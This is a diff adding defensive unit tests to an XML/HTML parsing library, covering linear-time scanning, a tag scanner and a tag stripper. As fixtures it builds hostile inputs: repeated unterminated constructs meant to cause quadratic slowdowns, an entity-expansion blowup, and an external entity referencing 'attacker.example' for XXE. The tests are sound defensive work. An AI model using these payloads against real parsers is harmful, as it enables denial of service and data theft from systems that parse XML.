@@ -10,8 +10,11 @@ import {
   parseJsonBounded,
   ParseError,
   inputHead,
+  scanXmlTags,
   settleItems,
+  stripTags,
   xmlRootElement,
+  type XmlTag,
 } from "../src/index.js";
 
 describe("normaliseDate", () => {
@@ -75,6 +78,79 @@ describe("assertSafeXml", () => {
     const deep = "<a>".repeat(10_000) + "</a>".repeat(10_000);
     expect(() => assertSafeXml("deep.xml", deep)).toThrowError(/deeper than 512/);
     expect(() => assertSafeXml("shallow.xml", "<a>".repeat(100) + "</a>".repeat(100))).not.toThrow();
+  });
+});
+
+describe("hostile XML in bounded time", () => {
+  const MB = 4 * 1024 * 1024;
+  const fill = (unit: string) => unit.repeat(Math.ceil(MB / unit.length));
+  // Each of these made a lazy-regex scanner rescan the rest of the document at every repetition
+  // (quadratic: hours at 64 MiB). A linear scan of 4 MB takes milliseconds; the bound is generous.
+  it.each([
+    ["unterminated CDATA sections", fill("<![CDATA[")],
+    ["unterminated comments", fill("<!--")],
+    ["unterminated processing instructions", fill("<?")],
+    ["unclosed start tags", fill("<item ")],
+    ["unclosed attribute quotes", fill('<a x="')],
+    ["a DOCTYPE opened again and again", fill("<!DOCTYPE x [")],
+  ])("scans %s linearly", (_, xml) => {
+    const t0 = performance.now();
+    expect(() => assertSafeXml("hostile.xml", `<rss>${xml}`)).not.toThrow();
+    expect(performance.now() - t0).toBeLessThan(2000);
+  });
+
+  it("refuses a quadratic blowup (one large entity referenced many times) before any expansion", () => {
+    const big = "x".repeat(50_000);
+    const xml = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${big}">]><r>${"&a;".repeat(50_000)}</r>`;
+    expect(() => assertSafeXml("blowup.xml", xml)).toThrowError(expect.objectContaining({ code: "HOSTILE_INPUT", input: "blowup.xml" }));
+  });
+
+  it("finds an entity declaration however it is spelled in the internal subset", () => {
+    for (const decl of ['<!entity x "y">', '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">']) {
+      expect(() => assertSafeXml("e.xml", `<!DOCTYPE r [${decl}]><r/>`)).toThrowError(/declares entities/);
+    }
+    expect(() => assertSafeXml("c.xml", "<r><![CDATA[<!ENTITY x>]]><!-- <!ENTITY y> --></r>")).not.toThrow();
+  });
+});
+
+describe("scanXmlTags", () => {
+  it("reports open, close and empty tags with their offsets, skipping CDATA, comments and text", () => {
+    const xml = '<?xml version="1.0"?><a:feed x="1>2"><e/><!-- <no> --><b><![CDATA[<no>]]>t &amp; u</b></a:feed>';
+    const tags: XmlTag[] = [];
+    scanXmlTags(xml, (t) => void tags.push(t));
+    expect(tags.map((t) => [t.kind, t.name, xml.slice(t.start, t.end)])).toEqual([
+      ["open", "a:feed", '<a:feed x="1>2">'],
+      ["empty", "e", "<e/>"],
+      ["open", "b", "<b>"],
+      ["close", "b", "</b>"],
+      ["close", "a:feed", "</a:feed>"],
+    ]);
+  });
+
+  it("passes over a stray < (and a tag with < in an attribute) and stops when the visitor returns false", () => {
+    const names: string[] = [];
+    scanXmlTags("<a>1 < 2 <3 <d x='<'><b><c>", (t) => {
+      names.push(t.name);
+      return t.name !== "b";
+    });
+    expect(names).toEqual(["a", "b"]);
+  });
+});
+
+describe("stripTags", () => {
+  it("drops script, style and head, breaks lines at block ends and decodes entities", () => {
+    const { text, segments } = stripTags("<head><title>x</title></head><p>One &amp; two</p><script>var a = '<p>';</script><div>Three<br>Four</div><style>p{}</style>");
+    expect(text).toBe("One & two\nThree\nFour");
+    expect(segments.map((s) => text.slice(s.start, s.end))).toEqual(["One & two", "Three", "Four"]);
+  });
+
+  it("keeps the text after an unclosed script and is linear on hostile markup", () => {
+    expect(stripTags("<p>a</p><script>b").text).toBe("a\nb");
+    for (const unit of ["<script", "<a ", "</p ", "<style><script"]) {
+      const t0 = performance.now();
+      stripTags(unit.repeat(200_000));
+      expect(performance.now() - t0, unit).toBeLessThan(2000);
+    }
   });
 });
 
